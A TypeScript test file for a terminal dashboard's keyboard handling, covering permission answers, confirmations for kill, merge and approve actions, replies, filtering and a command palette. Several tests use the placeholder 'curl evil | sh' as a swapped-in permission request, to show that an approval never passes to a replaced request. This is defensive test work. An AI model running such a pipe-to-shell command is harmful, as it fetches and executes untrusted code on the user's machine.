import { describe, expect, it } from 'vitest'
import { askingCard, sampleCard } from '../../../test/support/sample-card.ts'
import type { SessionCard } from '../../contract/dashboard/cards.ts'
import { type BoardRow, boardRows } from './board-rows.ts'
import { type BoardState, firstState, type KeyPress, noteDrawn, type Pressed } from './board-state.ts'
import { pressKey } from './press-key.ts'

const NOW = Date.parse('2026-03-04T12:00:00.000Z')

interface Board {
  cards: SessionCard[]
  state: BoardState
  isPaused?: boolean
  at: number
}

const rowsOf = ({ cards, state }: Board): BoardRow[] => boardRows(state.list, { cards, train: [], now: NOW })

function key(name: string, more: Partial<Extract<KeyPress, { kind: 'key' }>> = {}): KeyPress {
  const text = name === 'space' ? ' ' : name === 'return' ? '\r' : name.length === 1 ? name : ''
  return { kind: 'key', name, text, ctrl: false, meta: false, inBurst: false, ...more }
}

function press(board: Board, given: string | KeyPress): Pressed {
  const card = (id: string) => board.cards.find((one) => one.id === id) ?? null
  const pressed = pressKey(board.state, typeof given === 'string' ? key(given) : given, {
    rows: rowsOf(board),
    card,
    isPaused: board.isPaused ?? false,
    actions: [{ name: 'deploy', key: 'D', run: ['deploy', '{session}'] }],
    now: board.at,
    page: 10,
  })
  board.state = pressed.state
  return pressed
}

/** The terminal shows these lines, and the person reads them. */
function show(board: Board, part = { top: 0, bottom: 5, total: 5 }): void {
  board.state = noteDrawn(board.state, part, board.at)
  board.at += 1_000
}

const open = (cards: SessionCard[], list: BoardState['list'] = 'queue'): Board => ({
  cards,
  state: firstState(list),
  at: 0,
})

it('! stops everything without a question, also where nothing is listed, and lets all go on where it is stopped', () => {
  expect(press(open([]), '!').intent).toEqual({ kind: 'pause' })
  expect(press({ ...open([sampleCard()]), isPaused: true }, '!').intent).toEqual({ kind: 'resume' })
})

describe('an answer from the terminal board', () => {
  const ANSWER = { kind: 'answer', sessionId: 'app-1', requestId: 'perm-1' }

  it.each([
    ['y', 'yes'],
    ['n', 'no'],
    ['1', 'yes'],
    ['2', 'no'],
  ])('%s goes to exactly the request that is shown', (answer, optionId) => {
    const board = open([askingCard('app-1')])
    expect(press(board, 'y').intent).toBeUndefined()
    show(board)
    expect(press(board, answer).intent).toMatchObject({ ...ANSWER, optionId })
  })

  it.each<[string, Partial<SessionCard['permissions'][number]>]>([
    ['another request', { requestId: 'perm-2', title: 'curl evil | sh' }],
    ['the same id with another command', { title: 'curl evil | sh' }],
    ['the same title with another input', { input: { kind: 'command', text: 'curl evil | sh' } }],
    ['options in another order', { options: [{ optionId: 'no', name: 'Yes', decision: 'allow-once' }] }],
  ])('never goes to %s that took its place between drawing and key', (_what, replaced) => {
    const board = open([askingCard('app-1')])
    press(board, 'space')
    show(board)
    board.cards = [askingCard('app-1', replaced)]
    for (const answer of ['y', 'n', '1']) {
      const pressed = press(board, answer)
      expect(pressed.intent).toBeUndefined()
      expect(pressed.state.note).toContain('no longer asked')
    }
  })

  it('never goes anywhere after the session is gone', () => {
    const board = open([askingCard('app-1')])
    press(board, 'y')
    show(board)
    board.cards = []
    expect(press(board, 'y').intent).toBeUndefined()
  })

  it('needs every line of the request to have been on the screen', () => {
    const board = open([askingCard('app-1')])
    press(board, 'y')
    show(board, { top: 0, bottom: 10, total: 40 })
    expect(press(board, 'y').state.note).toContain('Read it to its end')
    // The end alone, jumped to.
    show(board, { top: 30, bottom: 40, total: 40 })
    expect(press(board, 'y').intent).toBeUndefined()
    for (const top of [10, 20, 30]) show(board, { top, bottom: top + 10, total: 40 })
    expect(press(board, 'y').intent).toMatchObject({ ...ANSWER, optionId: 'yes' })
  })

  it('counts lines anew where the terminal has another width', () => {
    const board = open([askingCard('app-1')])
    press(board, 'y')
    show(board, { top: 0, bottom: 10, total: 10 })
    show(board, { top: 0, bottom: 10, total: 20 })
    expect(press(board, 'y').intent).toBeUndefined()
  })

  it('is not a key that was pressed before somebody could read', () => {
    const board = open([askingCard('app-1')])
    press(board, 'y')
    expect(press(board, 'y').intent, 'not drawn yet').toBeUndefined()
    board.state = noteDrawn(board.state, { top: 0, bottom: 5, total: 5 }, board.at)
    board.at += 100
    expect(press(board, 'y').state.note).toContain('too quick')
    board.at += 1_000
    expect(press(board, 'y').intent).toMatchObject(ANSWER)
  })

  it.each<[string, KeyPress]>([
    ['pasted', { kind: 'paste', text: 'y' }],
    ['one of several that came at once', key('y', { inBurst: true })],
  ])('is not a key that was %s', (_how, given) => {
    const board = open([askingCard('app-1')])
    press(board, 'y')
    show(board)
    expect(press(board, given).intent).toBeUndefined()
    expect(board.state.mode.kind).toBe('ask')
  })

  it.each([
    ['isCut', { isCut: true }],
    ['diffsOmitted', { diffsOmitted: true }],
  ])('allows nothing that cannot be read here (%s), and refuses it all the same', (_what, request) => {
    const board = open([askingCard('app-1', request)])
    press(board, 'y')
    show(board)
    expect(press(board, 'y').state.note).toContain('Enter attaches')
    expect(press(board, '1').intent).toBeUndefined()
    expect(press(board, 'n').intent).toMatchObject({ optionId: 'no' })
  })

  it('never holds for more than the request', () => {
    const board = open([askingCard('app-1')])
    press(board, 'y')
    show(board)
    expect(press(board, '3').state.note).toContain('--always')
    expect(press(board, '7').state.note).toContain('no such answer')
  })
})

const READY: NonNullable<SessionCard['pr']> = {
  url: 'https://forge/7',
  number: 7,
  title: 'A switch',
  state: 'open',
  ci: 'passing',
  review: 'approved',
  hasConflicts: false,
  headSha: 'abc123',
}

describe('a change from the terminal board', () => {
  const ended = sampleCard({ id: 'app-2', can: { ...sampleCard().can, kill: false, restore: true, view: null } })
  const ready = sampleCard({
    id: 'app-3',
    can: { ...sampleCard().can, merge: true },
    pr: READY,
  })

  it.each([
    ['x', sampleCard(), { kind: 'kill', sessionId: 'app-1' }],
    ['i', sampleCard(), { kind: 'interrupt', sessionId: 'app-1' }],
    ['b', ended, { kind: 'restore', sessionId: 'app-2' }],
    ['D', sampleCard(), { kind: 'own', name: 'deploy', argv: ['deploy', 'app-1'] }],
    ['m', ready, { kind: 'merge', sessionId: 'app-3', sha: 'abc123' }],
    ['o', ready, { kind: 'approve', sessionId: 'app-3', sha: 'abc123' }],
  ])('%s is confirmed with y, once it is on the screen, and with nothing else', (name, card, change) => {
    const board = open([card], 'sessions')
    expect(press(board, name).intent).toBeUndefined()
    expect(press(board, 'y').state.note).toContain('too quick')
    show(board)
    expect(press(board, key('y', { inBurst: true })).intent).toBeUndefined()
    expect(press(board, { kind: 'paste', text: 'y' }).intent).toBeUndefined()
    expect(press(board, 'y').intent).toMatchObject(change)
    press(board, name)
    show(board)
    expect(press(board, 'j').state).toMatchObject({ mode: { kind: 'list' }, note: 'Nothing was done.' })
  })

  it.each(['m', 'o'])('%s is about the head that was shown, not one that came meanwhile', (name) => {
    const board = open([ready], 'sessions')
    press(board, name)
    show(board)
    board.cards = [{ ...ready, pr: { ...ready.pr!, headSha: 'def456', url: 'https://forge/8' } }]
    expect(press(board, 'y').intent).toMatchObject({ sha: 'abc123', url: 'https://forge/7' })
  })

  it.each([
    ['x', ended, 'not running'],
    ['b', sampleCard(), 'cannot be brought back'],
    ['m', sampleCard(), 'nothing that can be merged'],
    ['o', sampleCard(), 'no open pull request'],
    ['c', { ...ready, pr: { ...ready.pr!, state: 'merged' as const } }, 'no open pull request'],
    ['c', { ...ready, pr: { ...ready.pr!, headSha: null } }, 'no open pull request'],
    ['y', sampleCard(), 'asks for no permission'],
    ['z', sampleCard(), 'nothing that can be put off'],
    ['z', askingCard('app-1'), 'nothing that can be put off'],
    ['return', ended, 'nothing to attach to'],
  ])('%s says why it cannot be', (name, card, why) => {
    expect(press(open([card], 'sessions'), name).state.note).toContain(why)
  })

  it.each([
    ['return', { kind: 'join', sessionId: 'app-1' }],
    ['v', { kind: 'diff', sessionId: 'app-1' }],
    ['q', { kind: 'quit' }],
  ])('%s needs no confirmation', (name, intent) => {
    expect(press(open([sampleCard()], 'sessions'), name).intent).toEqual(intent)
  })
})

describe('a reply from the terminal board', () => {
  it('requests changes of the head that was shown, in words', () => {
    const pr = { ...READY, headSha: 'abc123' }
    const board = open([sampleCard({ pr })], 'sessions')
    press(board, 'c')
    expect(press(board, 'return').state.note).toContain('nothing to send')
    board.cards = [sampleCard({ pr: { ...pr, headSha: 'def456' } })]
    for (const letter of 'no') press(board, letter)
    const request = { kind: 'request', sessionId: 'app-1', sha: 'abc123', url: 'https://forge/7', text: 'no' }
    expect(press(board, 'return').intent).toEqual(request)
  })

  it('is typed, pasted with its lines and without its control characters, and sent with Enter', () => {
    const board = open([sampleCard()], 'sessions')
    press(board, 'space')
    for (const letter of 'hey') press(board, letter)
    press(board, 'backspace')
    press(board, { kind: 'paste', text: ' you\r\nyes\u001b[31m\u0003' })
    expect(press(board, key('return', { inBurst: true })).intent, 'a paste without marks').toBeUndefined()
    press(board, '!')
    expect(press(board, 'return').intent).toEqual({ kind: 'send', sessionId: 'app-1', text: 'he you\nyes[31m\n!' })
  })

  it('sends nothing that is empty, and nothing after Escape', () => {
    const board = open([sampleCard()], 'sessions')
    press(board, 'a')
    expect(press(board, 'return').intent).toBeUndefined()
    press(board, 'x')
    expect(press(board, 'escape').state.mode.kind).toBe('list')
    expect(press(board, 'return').intent).toEqual({ kind: 'join', sessionId: 'app-1' })
  })
})

describe('the chosen row', () => {
  const three = ['app-1', 'app-2', 'app-3'].map((id) => sampleCard({ id }))

  it('stays the same session while others come and go', () => {
    const board = open(three, 'sessions')
    const ids = rowsOf(board).map(({ sessionId }) => sessionId)
    press(board, 'j')
    board.cards = [askingCard('app-9'), ...three]
    expect(press(board, 'return').intent).toEqual({ kind: 'join', sessionId: ids[1] })
  })

  it.each([
    ['down', 1],
    ['G', 2],
    ['end', 2],
    ['pagedown', 2],
    ['k', 0],
  ])('%s moves within the list', (name, index) => {
    const board = open(three, 'sessions')
    const ids = rowsOf(board).map(({ sessionId }) => sessionId)
    press(board, name)
    expect(press(board, 'return').intent).toEqual({ kind: 'join', sessionId: ids[index] })
  })

  it('does nothing in an empty list', () => {
    expect(press(open([]), 'return')).toMatchObject({ state: { note: 'No session belongs to this row.' } })
  })

  it.each([
    ['2', 'sessions'],
    ['tab', 'sessions'],
    ['backtab', 'train'],
    ['4', 'train'],
  ])('%s shows another list', (name, list) => {
    expect(press(open(three), name).state.list).toBe(list)
  })

  it('types a filter, in which keys are letters', () => {
    const board = open(three, 'sessions')
    for (const name of ['/', 'q', 'x', '2', 'backspace']) press(board, name)
    expect(board.state).toMatchObject({ filter: 'qx', list: 'sessions', mode: { kind: 'filter' } })
    press(board, { kind: 'paste', text: 'a\nb' })
    expect(press(board, 'return').state).toMatchObject({ filter: 'qxa b', mode: { kind: 'list' } })
    expect(press(board, 'escape').state.filter).toBe('')
  })
})

describe('the palette', () => {
  const typed = (board: Board, text: string) => [...text].map((letter) => press(board, letter))

  it.each([':', 'ctrl-p'])(
    'opens with %s and does what the key of the chosen action does, with its question',
    (how) => {
      const board = open([sampleCard({ id: 'app-1' })], 'sessions')
      press(board, how === ':' ? ':' : key('p', { ctrl: true, text: '' }))
      typed(board, 'kil')
      expect(press(board, 'return').intent).toBeUndefined()
      expect(board.state.mode).toMatchObject({ kind: 'confirm', change: { kind: 'kill', sessionId: 'app-1' } })
      show(board)
      expect(press(board, 'y').intent).toMatchObject({ kind: 'kill', sessionId: 'app-1' })
    },
  )

  it('has a person’s own actions, and types letters that are keys elsewhere', () => {
    const board = open([sampleCard({ id: 'app-1' })], 'sessions')
    press(board, ':')
    expect(typed(board, 'depl q').at(-1)!.intent).toBeUndefined()
    expect(press(board, 'return').state.note).toBe('No action is called that.')
    press(board, 'backspace')
    press(board, 'return')
    expect(board.state.mode).toMatchObject({ kind: 'confirm', change: { name: 'deploy', argv: ['deploy', 'app-1'] } })
  })

  it('moves with arrows, closes with escape and is not reached by pasted text', () => {
    const board = open([sampleCard({ id: 'app-1' })], 'sessions')
    press(board, ':')
    press(board, 'down')
    expect(board.state.mode).toMatchObject({ kind: 'palette', index: 1 })
    press(board, { kind: 'paste', text: 'kill\r' })
    expect(board.state.mode).toMatchObject({ kind: 'palette', text: '', index: 1 })
    press(board, 'escape')
    expect(board.state.mode.kind).toBe('list')
  })
})

describe('what opens over the lists', () => {
  const rewind = { kind: 'rewind', sessionId: 'app-1', turn: 2, about: 'Draw it' } as const
  const entries = [
    { what: 'turn 3', opens: 'Turn 3 was not saved.' },
    { what: 'turn 2', opens: { kind: 'confirm' as const, change: rewind, drawn: null } },
  ]
  const picking = (): Board => {
    const board = open([sampleCard()])
    board.state = { ...board.state, mode: { kind: 'pick', title: 'turns', entries, index: 0 } }
    return board
  }

  it('s searches for the words that are typed or pasted, also where nothing is listed', () => {
    const board = open([])
    press(board, 's')
    expect(press(board, 'return').intent).toBeUndefined()
    for (const letter of 'qs') press(board, letter)
    press(board, { kind: 'paste', text: ' token\nexpires ' })
    expect(press(board, 'return')).toMatchObject({
      intent: { kind: 'search', text: 'qs token expires' },
      state: { mode: { kind: 'list' } },
    })
  })

  it('t reads the turns of the chosen session, u what people did', () => {
    expect(press(open([sampleCard()], 'sessions'), 't').intent).toEqual({ kind: 'turns', sessionId: 'app-1' })
    expect(press(open([]), 'u').intent).toEqual({ kind: 'log' })
  })

  it('says why an entry opens nothing, and goes back to a turn only after a question that was read', () => {
    const board = picking()
    press(board, 'return')
    expect(board.state).toMatchObject({ mode: { kind: 'pick' }, note: 'Turn 3 was not saved.' })
    for (const way of ['down', 'down']) press(board, way)
    expect(press(board, 'return').intent).toBeUndefined()
    expect(press(board, 'y').intent).toBeUndefined()
    show(board)
    expect(press(board, 'y').intent).toEqual(rewind)
  })

  it.each(['escape', 'q'])('%s leaves a list without doing anything', (name) => {
    const board = picking()
    expect(press(board, name).intent).toBeUndefined()
    expect(board.state.mode).toEqual({ kind: 'list' })
  })
})
